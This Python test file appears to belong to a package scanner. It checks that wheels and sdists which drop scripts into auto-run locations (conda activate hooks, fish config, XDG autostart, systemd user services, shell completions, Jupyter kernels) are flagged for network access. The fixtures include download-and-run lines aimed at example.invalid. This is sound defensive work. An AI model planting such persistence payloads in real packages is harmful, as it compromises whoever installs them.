"""Installing can put a script where shells, sessions and notebooks look for what they run by themselves."""

import json

import pytest
from attack_files import FETCH, sdist, unread, wheel

from ostiary.core.coverage import Reach
from ostiary.core.examination import Examination
from ostiary.program.model import Behaviour, Program
from ostiary.program.placed import MAX_TEXT

DATA = "pkg-1.0.data/data/"
LINE = f'sh -c "{FETCH}"'
SERVICE = f"[Service]\nExecStart={LINE}\n"
STARTED = {
    "etc/conda/activate.d/a.sh": FETCH,
    "etc/conda/activate.d/a.bat": "curl https://example.invalid/x -o a.exe\r\na.exe\r\n",
    "etc/conda/activate.d/a.ps1": "iwr https://example.invalid/x -OutFile a.exe; ./a.exe\n",
    "etc/conda/activate.d/a.csh": f"setenv A b\n{FETCH}\n",
    "etc/conda/deactivate.d/a.fish": FETCH,
    "etc/conda/deactivate.d/a.xsh": f"import os\nos.system('{FETCH}')\n",
    "etc/fish/conf.d/a.fish": FETCH,
    "share/fish/vendor_conf.d/a.fish": FETCH,
    "etc/xdg/autostart/a.desktop": f"[Desktop Entry]\nType=Application\nExec={LINE}\n",
    "lib/systemd/user/a.service": SERVICE,
    "etc/systemd/user/default.target.wants/a.service": SERVICE,
    "lib/R/etc/Rprofile.site": f"local(system('{FETCH}'))\n",
}
LATER = {
    "share/bash-completion/completions/ls": FETCH,
    "share/bash-completion/completions/ls.bash": FETCH,
    "share/zsh/site-functions/_ls": f"#compdef ls\n{FETCH}\n",
    "share/jupyter/kernels/own/kernel.json": json.dumps({"argv": ["sh", "-c", FETCH]}),
}
WAITING = ("share/applications/a.desktop", "share/pkg/a.sh", "share/doc/conf.d/a.fish")
HONEST = {
    "share/zsh/site-functions/_a": '#compdef a\n_a() {\n  b=(${(f)"$(a --list)"})\n}\ncompdef _a a\n',
    "share/bash-completion/completions/a": 'eval "$(register-python-argcomplete a)"\n',
    "share/jupyter/kernels/a/kernel.json": '{"argv": ["python", "-m", "a", "-f", "{file}"]}',
    "etc/conda/activate.d/a.sh": 'export A="$CONDA_PREFIX/share/a"\n',
}


def network(examined: Examination) -> set[Reach]:
    """When the network is asked."""
    program = next(one for one in examined.facts if isinstance(one, Program))
    return {one.reach for one in program.calls if one.behaviour is Behaviour.NETWORK}


@pytest.mark.parametrize("path", STARTED)
def test_what_starts_with_a_shell_or_a_session(path: str) -> None:
    assert network(wheel({DATA + path: STARTED[path]})) == {Reach.START}


@pytest.mark.parametrize("path", LATER)
def test_what_runs_once_somebody_types_or_opens_something(path: str) -> None:
    assert network(wheel({DATA + path: LATER[path]})) == {Reach.IMPORT}


@pytest.mark.parametrize("path", WAITING)
def test_what_nobody_starts(path: str) -> None:
    assert network(wheel({DATA + path: FETCH})) <= {Reach.CALL, Reach.DATA, Reach.TEST}


@pytest.mark.parametrize("path", HONEST)
def test_what_ordinary_packages_put_there(path: str) -> None:
    examined = wheel({DATA + path: HONEST[path]})
    assert (network(examined), unread(examined)) == (set(), [])


def test_data_files_of_a_setup_script() -> None:
    setup = "from setuptools import setup\nsetup(name='pkg', data_files=[('{}', ['files/a.sh'])])\n"
    for folder, found in (("etc/conda/activate.d", Reach.START), ("share/pkg", Reach.DATA)):
        files = {"setup.py": setup.format(folder), "files/a.sh": FETCH}
        assert network(sdist(files)) <= {found, Reach.CALL}
        assert (Reach.START in network(sdist(files))) is (found is Reach.START)


def test_one_that_is_too_large_is_told_to_be_unfinished() -> None:
    path = f"{DATA}share/zsh/site-functions/_ls"
    examined = wheel({path: f"#compdef ls\n{'#' * MAX_TEXT}\n{FETCH}\n"})
    program = next(one for one in examined.facts if isinstance(one, Program))
    assert [(one.path, one.reach) for one in program.unfinished] == [(path, Reach.IMPORT)]
